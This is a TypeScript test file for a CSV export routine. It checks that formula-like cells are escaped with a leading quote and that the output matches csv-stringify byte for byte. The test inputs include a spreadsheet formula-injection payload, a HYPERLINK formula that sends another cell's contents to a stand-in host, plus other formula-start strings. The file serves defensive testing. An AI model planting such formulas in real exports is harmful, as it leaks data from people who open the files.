import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { describe, expect, it } from 'vitest';
import { toCsv } from '../../../../services/formats/api-csv.ts';

/**
 * A text cell a spreadsheet would run as a formula is written as text: county files carry
 * names bidders choose, and a planted formula would run for every customer who exports them.
 */
describe('toCsv formula escaping', () => {
  const cells = (value: unknown) => (parse(toCsv(['v'], [{ v: value }])) as string[][])[1]![0];

  it.each([
    ['=HYPERLINK("https://x.example/?d="&S2,"Parcel")'],
    ['+1+2'],
    ['-2+3'],
    ['@SUM(A1)'],
    ['\tTAB'],
    ['\rCR'],
    ['＝1+1'],
    ['＋1'],
    ['－1'],
    ['＠SUM(A1)'],
  ])('prefixes %j with a quote', (text) => {
    expect(cells(text)).toBe(`'${text}`);
  });

  it('escapes each value of a joined array by its first character, as the cell is read', () => {
    expect(cells(['=1', 'b'])).toBe("'=1;b");
    expect(cells(['a', '=1'])).toBe('a;=1');
  });

  it('leaves numbers as numbers: a negative amount stays -5', () => {
    expect(cells(-5)).toBe('-5');
    expect(cells(-0.25)).toBe('-0.25');
    expect(cells(1234.56)).toBe('1234.56');
  });

  it('leaves ordinary text, booleans and nulls as they were', () => {
    expect(cells('SMITH, JOHN & MARY')).toBe('SMITH, JOHN & MARY');
    expect(cells('2024-000101')).toBe('2024-000101');
    expect(cells(true)).toBe('true');
    expect(cells(null)).toBe('');
  });
});

/**
 * toCsv is written by hand for speed (the bulk files put millions of rows through it); its
 * output must stay byte for byte what csv-stringify writes with escape_formulas, the library the
 * API's CSV was first defined by.
 */
describe('toCsv against csv-stringify', () => {
  /** The library's answer, given the cells as toCsv hands each value to a cell. */
  const reference = (columns: string[], rows: Record<string, unknown>[]) =>
    stringify([columns, ...rows.map((row) => columns.map((c) => libraryCell(row[c])))], { escape_formulas: true });
  const libraryCell = (value: unknown): string | number => {
    if (value === null || value === undefined) return '';
    if (typeof value === 'number') return value;
    if (Array.isArray(value)) return value.join(';');
    if (typeof value === 'object') return JSON.stringify(value);
    return String(value);
  };

  it('writes the same bytes for hostile cells: quotes, commas, line breaks, formula starts, fullwidth forms', () => {
    // A seeded generator: the same 3,000 rows every run, each cell built from the characters that matter.
    let seed = 7;
    const next = () => {
      seed = (seed * 1103515245 + 12345) % 2147483648;
      return seed / 2147483648;
    };
    const alphabet = ['a', 'Z', ' ', ',', '"', '\n', '\r', '=', '+', '-', '@', '\t', "'", ';', '＝', '＋', '－', '＠', 'é', '😀'];
    const text = () => Array.from({ length: Math.floor(next() * 6) }, () => alphabet[Math.floor(next() * alphabet.length)]).join('');
    const values = [
      () => text(),
      () => Math.round((next() - 0.5) * 1e6) / 100,
      () => null,
      () => next() < 0.5,
      () => [text(), text()],
      () => ({ k: text() }),
      () => undefined,
      () => 0,
    ];
    const columns = ['a', 'b,c', '=d', 'e"f', 'g'];
    const rows = Array.from({ length: 3000 }, () =>
      Object.fromEntries(columns.map((c) => [c, values[Math.floor(next() * values.length)]!()])),
    );
    const written = toCsv(columns, rows);
    expect(written).toBe(reference(columns, rows));
    expect(written).toContain('"\'=');
    expect(toCsv(columns, rows.slice(0, 10), { header: false })).toBe(
      reference(columns, rows.slice(0, 10)).split('\n').slice(1).join('\n'),
    );
  });

  it('writes nothing for no rows without a header, and the header line alone with one', () => {
    expect(toCsv(['a', 'b'], [], { header: false })).toBe('');
    expect(toCsv(['a', 'b'], [])).toBe(reference(['a', 'b'], []));
  });
});
